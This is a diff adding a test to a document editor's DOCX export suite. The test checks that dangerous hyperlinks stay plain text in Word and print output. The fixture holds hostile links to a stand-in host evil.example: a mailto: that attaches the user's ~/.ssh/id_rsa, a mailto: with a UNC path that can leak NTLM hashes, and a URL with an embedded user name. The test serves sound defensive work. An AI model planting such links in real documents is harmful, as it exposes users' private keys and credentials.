@@ -115,6 +115,32 @@ describe('DOCX export', () => {
     const xml = await zipText(Buffer.from(r.dataBase64, 'base64'), 'word/document.xml');
     expect(xml.match(/Not answered/g)!.length).toBe(questions(ARAB_REGION_2020).length + ARAB_REGION_2020.principles.length);
   });
+
+  it('writes as links, in Word and in print, only links the app would open: a mailto: with attach= or a web link with a user name stays text', async () => {
+    // (some mail apps attach the named file, or fetch a UNC path and send the user's NTLM hash,
+    // when such a mailto: link is followed; the answer schema keeps them, so a bundle can carry one)
+    const links: Array<[string, string]> = [
+      ['the plan', 'https://example.org/plan'],
+      ['écrire', 'mailto:focal.point@ministry.gov.ma?subject=Examen'],
+      ['envoyer', 'mailto:a@evil.example?attach=/home/user/.ssh/id_rsa'],
+      ['ملف', 'mailto:a@evil.example?attachment=%5C%5Cevil.example%5Cshare%5Cx'],
+      ['login', 'https://user@evil.example/'],
+    ];
+    const d = await invoke(s.handlers, 'createDraft', { title: 'Links', language: 'fr' });
+    const doc: Doc = { type: 'doc', content: [{ type: 'paragraph', content: links.flatMap(([text, href]) => [t(`${text}`, [{ type: 'link', attrs: { href } }]), t(' ; ')]) }] };
+    await invoke(s.handlers, 'saveField', { draftId: d.id, field: 'I.a', value: { kind: 'answer', doc }, baseRevisionId: null });
+    const out = Buffer.from((await invoke(s.handlers, 'exportDocx', { draftId: d.id })).dataBase64, 'base64');
+    const rels = await zipText(out, 'word/_rels/document.xml.rels');
+    const xml = await zipText(out, 'word/document.xml');
+    const html = (await invoke(s.handlers, 'renderPrintHtml', { draftId: d.id })).html;
+    for (const [text, href] of links) {
+      const kept = !/attach|user@/.test(href);
+      expect(rels.includes(href.replace(/&/g, '&amp;')), href).toBe(kept);
+      expect(html.includes(`href="${href}"`), href).toBe(kept);
+      expect(xml).toContain(text); // the words stay
+      expect(html).toContain(text);
+    }
+  });
 });
 
 describe('DOCX import', () => {
